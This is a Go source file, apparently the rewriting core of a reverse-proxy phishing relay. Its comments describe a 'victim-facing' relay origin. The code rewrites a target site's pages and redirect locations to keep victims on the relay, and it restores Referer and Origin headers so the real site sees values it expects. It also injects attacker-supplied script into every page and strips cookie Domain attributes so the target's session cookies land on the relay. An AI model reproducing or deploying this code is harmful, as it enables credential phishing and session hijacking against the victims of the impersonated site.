package core

import (
	"strings"
)

// Rewriter turns upstream content into content that keeps the browser
// talking to the relay. Narrow on purpose so the literal engine can be
// swapped for a smarter one without touching the relay pipeline.
type Rewriter interface {
	RewriteBody(t *Target, body string) string
	RewriteURL(t *Target, raw string) string
	RestoreURL(t *Target, raw string) string
}

// LiteralRewriter performs ordered literal substitutions against the
// target's known hosts. ExternalBase is the victim-facing origin of the
// relay, e.g. "http://relay.example.com:8020".
type LiteralRewriter struct {
	ExternalBase string

	// scheme-relative form of ExternalBase ("//host:port"), used when
	// replacing protocol-relative references so they stay scheme-relative
	relBase string
}

func NewLiteralRewriter(external_base string) *LiteralRewriter {
	base := strings.TrimRight(external_base, "/")
	rel := base
	if i := strings.Index(base, "//"); i >= 0 {
		rel = base[i:]
	}
	return &LiteralRewriter{
		ExternalBase: base,
		relBase:      rel,
	}
}

func (rw *LiteralRewriter) relayPrefix(t *Target) string {
	return rw.ExternalBase + "/" + t.Id
}

func (rw *LiteralRewriter) extPrefix(domain string) string {
	return rw.ExternalBase + "/_ext/" + domain
}

// RewriteBody applies the substitution order that keeps later rules from
// clobbering earlier ones: target host first, then external proxy domains,
// then the target's own sub_filters, then script injection.
func (rw *LiteralRewriter) RewriteBody(t *Target, body string) string {
	relay := rw.relayPrefix(t)
	body = strings.ReplaceAll(body, "https://"+t.TargetHost, relay)
	body = strings.ReplaceAll(body, "http://"+t.TargetHost, relay)
	body = strings.ReplaceAll(body, "//"+t.TargetHost, rw.relBase+"/"+t.Id)

	for _, domain := range t.ProxyDomains {
		if domain == "" || domain == t.TargetHost {
			continue
		}
		ext := rw.extPrefix(domain)
		body = strings.ReplaceAll(body, "https://"+domain, ext)
		body = strings.ReplaceAll(body, "http://"+domain, ext)
		body = strings.ReplaceAll(body, "//"+domain, rw.relBase+"/_ext/"+domain)
	}

	for _, sf := range t.SubFilters {
		if sf.Search != "" {
			body = strings.ReplaceAll(body, sf.Search, sf.Replace)
		}
	}

	if t.JsInject != "" {
		body = injectScript(body, t.JsInject)
	}
	return body
}

// RewriteURL maps an upstream redirect Location onto the relay namespace.
func (rw *LiteralRewriter) RewriteURL(t *Target, raw string) string {
	if raw == "" {
		return raw
	}
	relay := rw.relayPrefix(t)
	for _, prefix := range []string{"https://" + t.TargetHost, "http://" + t.TargetHost, "//" + t.TargetHost} {
		if strings.HasPrefix(raw, prefix) {
			return relay + raw[len(prefix):]
		}
	}
	for _, domain := range t.ProxyDomains {
		if domain == "" {
			continue
		}
		for _, prefix := range []string{"https://" + domain, "http://" + domain, "//" + domain} {
			if strings.HasPrefix(raw, prefix) {
				return rw.extPrefix(domain) + raw[len(prefix):]
			}
		}
	}
	if strings.HasPrefix(raw, "/") && !strings.HasPrefix(raw, "/"+t.Id) {
		return "/" + t.Id + raw
	}
	return raw
}

// RestoreURL maps a browser-supplied Referer or Origin back to the real
// target so the upstream sees values it expects.
func (rw *LiteralRewriter) RestoreURL(t *Target, raw string) string {
	if raw == "" {
		return raw
	}
	base := t.BaseURL()
	relay := rw.relayPrefix(t)
	if raw == relay || raw == relay+"/" {
		return base + "/"
	}
	if strings.HasPrefix(raw, relay+"/") {
		return base + raw[len(relay):]
	}
	ext := rw.ExternalBase + "/_ext/"
	if strings.HasPrefix(raw, ext) {
		rest := raw[len(ext):]
		if i := strings.IndexByte(rest, '/'); i >= 0 {
			return "https://" + rest[:i] + rest[i:]
		}
		return "https://" + rest + "/"
	}
	if raw == rw.ExternalBase || raw == rw.ExternalBase+"/" {
		return base
	}
	return raw
}

// injectScript places the payload right before </head>, falling back to
// </body> and then plain append so the script always lands somewhere.
func injectScript(body string, js string) string {
	tag := "<script>" + js + "</script>"
	for _, closer := range []string{"</head>", "</HEAD>", "</body>", "</BODY>"} {
		if i := strings.Index(body, closer); i >= 0 {
			return body[:i] + tag + body[i:]
		}
	}
	return body + tag
}

// stripCookieDomain drops a Domain attribute that pins the cookie to the
// real target or one of its proxy domains, so the browser scopes it to the
// relay origin instead. Other attributes pass through untouched.
func stripCookieDomain(t *Target, set_cookie string) string {
	parts := strings.Split(set_cookie, ";")
	var kept []string
	for i, part := range parts {
		if i == 0 {
			kept = append(kept, part)
			continue
		}
		av := strings.TrimSpace(part)
		if len(av) >= 7 && strings.EqualFold(av[:7], "domain=") {
			domain := strings.TrimPrefix(strings.ToLower(av[7:]), ".")
			if domainMatchesTarget(t, domain) {
				continue
			}
		}
		kept = append(kept, part)
	}
	return strings.Join(kept, ";")
}

func domainMatchesTarget(t *Target, domain string) bool {
	hosts := append([]string{t.TargetHost}, t.ProxyDomains...)
	for _, h := range hosts {
		h = strings.ToLower(h)
		if h == "" {
			continue
		}
		if domain == h || strings.HasSuffix(h, "."+domain) || strings.HasSuffix(domain, "."+h) {
			return true
		}
	}
	return false
}
